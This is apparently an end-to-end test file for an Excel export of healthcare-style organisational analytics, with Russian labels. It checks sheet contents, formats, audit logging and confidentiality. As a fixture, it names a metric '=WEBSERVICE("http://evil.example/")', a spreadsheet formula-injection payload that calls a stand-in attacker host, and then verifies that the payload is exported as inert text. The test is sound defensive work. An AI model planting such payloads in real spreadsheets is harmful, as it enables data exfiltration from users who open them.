import ExcelJS from 'exceljs'
import { expect, it } from 'vitest'
import { makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
import { signedIn } from '@/e2e/support/api'
import { differences, tableChecksums } from '@/e2e/support/postgres/table-checksums'
import { republishAll } from '@/e2e/support/publications'
import { openWorkbook } from '@/e2e/support/workbook'
import { METHOD_VERSION } from '@/lib/calc/method-version'
import { roundTo } from '@/lib/calc/rounding'
import { companyScope } from '@/lib/core/auth/scope'
import { findSession } from '@/lib/core/auth/session'
import { db } from '@/lib/core/db/client'
import type { Report, ReportCell } from '@/lib/features/analytics/contract'
import { exportReport } from '@/lib/features/analytics/export/export'
import { reportExportQuerySchema } from '@/lib/features/analytics/schema'

const world = await makeAnalyticsWorld()
// Text that a spreadsheet would run as a formula.
await db().metric.update({
  where: { id: world.metrics.m1 },
  data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
})
await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
await republishAll()

const query = (text: Record<string, string>) => reportExportQuerySchema.parse(text)

/** The workbook of a person of organisation k. */
async function workbookOf(k: number, filters: Record<string, string> = {}) {
  const session = await findSession((await signedIn(world.managers[k] ?? 0)).cookies.split(/[=;]/)[1])
  if (!session) throw new Error('no session')
  const download = await exportReport(
    companyScope(session.user),
    query({ year_from: '2025', year_to: '2025', ...filters }),
  )
  const bytes = await new Response(download.body).arrayBuffer()
  return { download, workbook: await openWorkbook(new Response(bytes)), bytes }
}

const third = await workbookOf(3)
type Workbook = (typeof third)['workbook']

function sheetOf(workbook: Workbook, name: string): ExcelJS.Worksheet {
  const sheet = workbook.getWorksheet(name)
  if (!sheet) throw new Error(`no sheet ${name}`)
  return sheet
}

function valuesOf(sheet: ExcelJS.Worksheet): unknown[][] {
  return sheet
    .getSheetValues()
    .flatMap((row) => (Array.isArray(row) ? [Array.from(row.slice(1), (value) => value ?? null)] : []))
}

/** An indicator's rows on the second sheet by label; the row of its values comes first. */
function rowsOf(workbook: Workbook, indicator: string): Record<string, ExcelJS.Row> {
  const rows: Record<string, ExcelJS.Row> = {}
  let isWithin = false
  sheetOf(workbook, 'Отчёт').eachRow((row) => {
    const { outlineLevel: level = 0 } = row
    if (level < 2) isWithin = level === 1 && row.getCell(1).value === indicator
    if (isWithin) rows[level === 1 ? 'Значение' : row.getCell(1).text] = row
  })
  return rows
}

const LEADING = 3
const valuesIn = (row: ExcelJS.Row | undefined, periods = 5) =>
  Array.from({ length: periods }, (_, index) => row?.getCell(index + 1 + LEADING).value ?? null)

const figuresOf = (workbook: Workbook, indicator: string) =>
  Object.fromEntries(
    Object.entries(rowsOf(workbook, indicator)).map(([words, row]) => [words, valuesIn(row)]),
  )

const fail = (key: string): never => {
  throw new Error(`no cell ${key}`)
}

const FEW = 'меньше 5'
const TOO_FEW = 'мало организаций'

it('is a download with its name in Russian, and leaves an audit row', async () => {
  const client = await signedIn(world.managers[3] ?? 0)
  const before = await tableChecksums()
  const answer = await client.get(
    '/api/analytics-report-data/export?year_from=2025&year_to=2026&company_types=1',
  )
  expect(answer.status).toBe(200)
  expect(answer.headers.get('content-type')).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  )
  expect(answer.headers.get('content-disposition')).toBe(
    `attachment; filename="report-2025-2026.xlsx"; filename*=UTF-8''${encodeURIComponent('Отчёт по показателям 2025–2026.xlsx')}`,
  )
  expect(answer.headers.get('cache-control')).toBe('private, no-store')
  const audit = await db().auditEvent.findFirstOrThrow({
    where: { action: 'report.export' },
    orderBy: { id: 'desc' },
  })
  expect(audit).toMatchObject({
    userId: world.managers[3],
    entity: 'company',
    entityId: world.companies[3],
    after: { years: [2025, 2026], organisations: 24, filters: { company_types: [1], is_emergency: null } },
  })
  // X3: the call writes nothing but its audit row.
  expect(differences(before, await tableChecksums())).toEqual(['table public.audit_events'])
})

it('the first sheet: conditions, number of organisations, moment, method', async () => {
  const { workbook, download } = await workbookOf(3, { company_types: '1,2', is_emergency: 'true' })
  expect(workbook.worksheets.map(({ name }) => name)).toEqual([
    'Условия',
    'Отчёт',
    'Определения',
    'Сигналы',
    'Мероприятия',
  ])
  expect(download.name).toBe('Отчёт по показателям 2025')
  const rows = valuesOf(sheetOf(workbook, 'Условия'))
  const types = await db().companyType.findMany({ where: { id: { in: [1, 2] } }, orderBy: { id: 'asc' } })
  expect(rows[0]).toEqual(['Отчёт по показателям 2025'])
  expect(
    Object.fromEntries(rows.filter(({ length }) => length === 2).map(([key, value]) => [key, value])),
  ).toEqual(
    expect.objectContaining({
      Сформирован: expect.stringMatching(/^\d\d\.\d\d\.\d{4}, \d\d:\d\d$/),
      Организация: `${namesOf(3).short_name}, № ${numberOf(3)}`,
      Годы: '2025',
      'Тип организации': types.map(({ name }) => name).join(', '),
      'Форма собственности': 'все',
      Уровень: 'все',
      'Коечный фонд': 'все',
      'Экстренная помощь': 'с экстренной помощью',
      'Организаций в группе (N)': 24,
      'Наименьшая группа для сравнения': 5,
      Метод: `версия ${METHOD_VERSION}`,
      '5.': 'Если, кроме своей, значение есть менее чем у 5 организаций, медиана, место и число организаций не приводятся.',
    }),
  )
})

it('of one category: its indicators alone, told in the name of the file and on the first sheet', async () => {
  const lead = '/api/analytics-report-data/export?year_from=2025&year_to=2025&metric_category_id='
  const client = await signedIn(world.managers[3] ?? 0)
  expect((await client.get(`${lead}2000000000`)).status).toBe(404)
  const category = await db().metricCategory.findUniqueOrThrow({ where: { id: world.categoryId } })
  const others = await db().metric.findMany({ where: { metricCategoryId: { not: category.id } } })
  const one = await workbookOf(3, { metric_category_id: String(category.id) })
  const conditions = (workbook: Workbook) =>
    valuesOf(sheetOf(workbook, 'Условия')).find(([label]) => label === 'Категория')?.[1]
  expect([conditions(third.workbook), conditions(one.workbook)]).toEqual(['все', category.name])
  expect(one.download.name).toBe(`Отчёт по показателям 2025, ${category.shortName}`)
  const names = valuesOf(sheetOf(one.workbook, 'Отчёт')).map(([name]) => name)
  expect(names).toContain('Частота')
  expect(names).not.toContain(others[0]?.name)
  expect(valuesOf(sheetOf(third.workbook, 'Отчёт')).map(([name]) => name)).toContain(others[0]?.name)
  expect(valuesOf(sheetOf(one.workbook, 'Определения'))).toHaveLength(5)
  expect(figuresOf(one.workbook, 'Частота')).toEqual(figuresOf(third.workbook, 'Частота'))
})

it('the second sheet cell by cell: the numbers of the report, units, own source data', async () => {
  const { workbook } = third
  const sheet = sheetOf(workbook, 'Отчёт')
  expect(valuesOf(sheet)[0]).toEqual([
    'Показатель',
    'Ед. изм.',
    'Цель',
    'I кв. 2025',
    'II кв. 2025',
    'III кв. 2025',
    'IV кв. 2025',
    '2025',
  ])
  expect(figuresOf(workbook, '=WEBSERVICE("http://evil.example/")')).toEqual({
    Значение: [2, 2, null, null, 2],
    'a — Величина a': [4, 2, null, null, 6],
    'b — Величина b': [200, 100, null, null, 300],
    'Медиана группы': [3, null, null, null, 3.5],
    Место: [3, null, null, null, 2],
    'Место: от–до': expect.any(Array),
    'Организаций (N)': [8, FEW, null, null, 10],
    Изменение: [null, 0, null, null, null],
    Примечание: [null, TOO_FEW, null, null, 'с несдавшими место от 2 до 22'],
  })
  expect(figuresOf(workbook, 'Частота')).toEqual({
    Значение: [90, 60, null, null, 80],
    'a — Величина a': [18, 6, null, null, 24],
    'b — Величина b': [200, 100, null, null, 300],
    'Медиана группы': [90, null, null, null, 80],
    Место: [3, null, null, null, 4],
    'Место: от–до': expect.any(Array),
    'Организаций (N)': [9, FEW, null, null, 9],
    Изменение: [null, -30, null, null, null],
    Примечание: [null, TOO_FEW, null, null, 'с несдавшими место от 4 до 24'],
  })
  expect(figuresOf(workbook, 'Длительность')).toMatchObject({
    Значение: [7, null, null, null, 7],
    'b — Величина b': [200, null, null, null, 200],
    'Медиана группы': [9.5, null, null, null, 9.5],
    Примечание: [
      null,
      'показатель неприменим либо нет данных',
      null,
      null,
      'неполный год: 1 квартал из 2; с несдавшими место от 3 до 23',
    ],
  })
  expect(figuresOf(workbook, 'Баллы')).toMatchObject({
    Значение: [7, null, null, null, 7],
    'a — Величина a': [3, null, null, null, 3],
    'c — Величина c': [1, null, null, null, 1],
    Место: [null, null, null, null, null],
  })
  const units = new Map(valuesOf(sheet).map((row) => [row[0], row[1]]))
  expect([units.get('Частота'), units.get('Длительность')]).toEqual(['случ. на 1000', 'суток'])
})

it('a period that is not published has no number of organisations rather than few', async () => {
  const { workbook } = await workbookOf(3, { year_to: '2026' })
  const { 'Организаций (N)': numbers } = figuresOf(workbook, 'Частота')
  expect(numbers).toEqual([9, FEW, null, null, 9])
  const periods = valuesOf(sheetOf(workbook, 'Отчёт'))[0]?.slice(LEADING) ?? []
  expect(periods.at(-1)).toBe('2026')
  const later = valuesIn(rowsOf(workbook, 'Частота')['Организаций (N)'], periods.length).slice(5)
  expect(new Set(later)).toEqual(new Set([null]))
  await db().$executeRaw`DELETE FROM publications`
  const { workbook: first } = await workbookOf(3)
  await republishAll()
  const count = valuesOf(sheetOf(first, 'Условия')).find(([label]) => label === 'Организаций в группе (N)')
  expect(count?.[1]).toBe('выпуска ещё не было')
  expect(JSON.stringify(valuesOf(sheetOf(first, 'Отчёт')))).not.toContain(FEW)
})

it('every figure is the answer’s for the same filters, of its decimals; rows are as high as their words', async () => {
  const filters = { company_types: '1' }
  const { workbook } = await workbookOf(5, filters)
  const client = await signedIn(world.managers[5] ?? 0)
  const query = new URLSearchParams({ year_from: '2025', year_to: '2025', ...filters })
  const { data, meta }: Report = Object((await client.get(`/api/analytics-report-data?${query}`)).body)
  const metrics = data.metric_categories.flatMap((category) => category.metrics)
  const shown: ReadonlyArray<readonly [string, (cell: ReportCell, isOver: boolean) => unknown]> = [
    ['Значение', ({ own }) => own],
    ['Изменение', ({ change }) => change],
    ['Медиана группы', ({ median }) => median],
    ['Место', ({ place }) => place],
    ['Организаций (N)', ({ n }, isOver) => n ?? (isOver ? null : `меньше ${meta.min_group}`)],
  ]
  expect(metrics.length).toBeGreaterThan(4)
  const ended = await db().metric.findMany({ where: { dateEnd: new Date('2025-06-30') } })
  const isOver = (id: number, key: string) => ended.some((one) => one.id === id) && /-[34]$/.test(key)
  for (const { metric, cells } of metrics) {
    const rows = rowsOf(workbook, metric.name)
    for (const [words, of] of shown)
      expect(valuesIn(rows[words]), `${metric.name}: ${words}`).toEqual(
        data.periods.map(({ key }) => of(cells[key] ?? fail(key), isOver(metric.id, key))),
      )
    for (const value of [...valuesIn(rows.Значение), ...valuesIn(rows['Медиана группы'])])
      if (typeof value === 'number') expect(roundTo(value, metric.decimals)).toBe(value)
  }
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell, column) => {
        expect(cell.font?.name).toBe('Arial')
        if (!cell.alignment?.wrapText || typeof cell.value !== 'string') return
        // Estimated line length: a character is half the font size wide.
        const width = Number(sheet.getColumn(column).width)
        const lines = cell.value
          .split('\n')
          .reduce((sum, line) => sum + Math.ceil(line.length / (width * 1.3)), 0)
        expect(row.height ?? 15, cell.value).toBeGreaterThanOrEqual(
          Math.min(409, lines > 1 ? lines * 12.75 : 0),
        )
      })
    })
  }
})

it('the intervals of places are those of the rating', async () => {
  const { workbook } = third
  const rating = await signedIn(world.managers[3] ?? 0).then((client) =>
    client.get(`/api/analytics-rating?year=2025&metric_category_id=${world.categoryId}`),
  )
  const slots = [['quarter', '1'], ['quarter', '2'], ['quarter', '3'], ['quarter', '4'], ['year']]
  const expected = slots.map((slot) => {
    const rated = Object(rating.at('data', ...slot, 'metrics', 1))
    return rated.own?.place_interval?.join('–') ?? null
  })
  expect(expected[0]).toMatch(/^\d+–\d+$/)
  expect(valuesIn(rowsOf(workbook, 'Частота')['Место: от–до'])).toEqual(expected)
  expect(rowsOf(workbook, 'Баллы')).not.toHaveProperty('Место: от–до')
})

it('numbers have their decimals and signs, the header stays and is printed on every page', async () => {
  const { workbook } = await workbookOf(5)
  const sheet = sheetOf(workbook, 'Отчёт')
  const formatOf = (indicator: string, label: string, column: number) =>
    rowsOf(workbook, indicator)[label]?.getCell(column).numFmt
  expect(formatOf('Длительность', 'Значение', 4)).toBe('#,##0.0')
  expect(formatOf('Частота', 'Значение', 4)).toBe('#,##0.00')
  expect(formatOf('Баллы', 'Значение', 4)).toBe('#,##0')
  expect(formatOf('Частота', 'Место', 4)).toBe('#,##0')
  expect(rowsOf(workbook, 'Частота').Изменение?.getCell(5)).toMatchObject({
    value: -20,
    numFmt: '+#,##0.00;−#,##0.00;#,##0.00',
  })
  // A change that may be chance is neither good nor bad.
  expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 5)).not.toMatch(/[▲▼]/)
  expect(rowsOf(workbook, '=WEBSERVICE("http://evil.example/")').Значение?.getCell(LEADING)).toMatchObject({
    value: 3,
    numFmt: '"≤ "#,##0.0;"≤ "−#,##0.0',
  })
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 3, ySplit: 1 })
  expect(sheet.pageSetup).toMatchObject({
    orientation: 'landscape',
    paperSize: 9,
    fitToPage: true,
    fitToWidth: 1,
    fitToHeight: 0,
    printTitlesRow: '1:1',
    printTitlesColumn: 'A:C',
  })
  expect(sheet.headerFooter.oddHeader).toContain(`${namesOf(5).short_name}, № ${numberOf(5)}`)
  expect(sheet.headerFooter.oddHeader).toContain('Отчёт по показателям 2025')
})

it('the last sheet: definitions, the order of the target and the target by their names', async () => {
  const { workbook } = third
  const rows = valuesOf(sheetOf(workbook, 'Определения'))
  expect(rows[0]?.slice(5, 8)).toEqual(['Порядок цели', 'Целевое значение', 'Своя цель'])
  expect(rows.find((row) => row[1] === '=WEBSERVICE("http://evil.example/")')).toEqual([
    '-Категория',
    '=WEBSERVICE("http://evil.example/")',
    '%',
    'a * 100 / b',
    'a — Величина a\nb — Величина b',
    expect.any(String),
    3,
    null,
    20,
    '@сумма <1>\n+7',
  ])
  expect(rows.find((row) => row[1] === 'Баллы')?.slice(3)).toEqual([
    'a * 2 + c',
    'a — Величина a\nc — Величина c (среднее)',
    expect.any(String),
  ])
})

it('I9 text is text, whatever it begins with, and no cell is a formula or not a number', async () => {
  const { workbook } = third
  let texts = 0
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.Number, ExcelJS.ValueType.String]).toContain(cell.type)
        expect(cell.formula).toBeUndefined()
        if (typeof cell.value === 'number') expect(Number.isFinite(cell.value)).toBe(true)
        if (typeof cell.value === 'string' && /^[=+\-@\t]/.test(cell.value)) {
          texts += 1
          expect(cell.numFmt).toBe('@')
        }
      })
    })
  }
  expect(texts).toBeGreaterThan(4)
})

it('A5 names no other organisation, and a group of four shows no comparison', async () => {
  const { workbook } = await workbookOf(3, { company_types: '2' })
  const text = JSON.stringify(workbook.worksheets.map(valuesOf))
  for (const k of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]) {
    if (k === 3) continue
    for (const word of [...Object.values(namesOf(k)), numberOf(k)]) expect(text).not.toContain(word)
  }
  const rows = valuesOf(sheetOf(workbook, 'Отчёт'))
  const numbersOf = (label: string) =>
    rows.filter((row) => row[0] === label).flatMap((row) => row.slice(LEADING).filter((one) => one !== null))
  expect(numbersOf('Медиана группы')).toEqual([])
  expect(numbersOf('Место')).toEqual([])
  expect(valuesIn(rowsOf(workbook, 'Частота').Значение)).toEqual([90, 60, null, null, 80])
  // Group's variables are absent: only the own 4/200 and so on.
  expect(numbersOf('b — Величина b')).toEqual([200, 100, 300, 200, 100, 300, 200, 200])
})

it('a place beside a value corrected since is told to be of the published one', async () => {
  await db().comparisonFact.updateMany({
    where: { companyId: world.companies[3] ?? 0, metricId: world.metrics.m2, year: 2025, quarter: 1 },
    data: { a: 20 },
  })
  const { workbook } = await workbookOf(3)
  const { Значение, Место, Примечание } = figuresOf(workbook, 'Частота')
  expect([Значение?.[0], Место?.[0], Примечание?.[0]]).toEqual([100, 3, 'место в выпуске, при 90,00'])
})
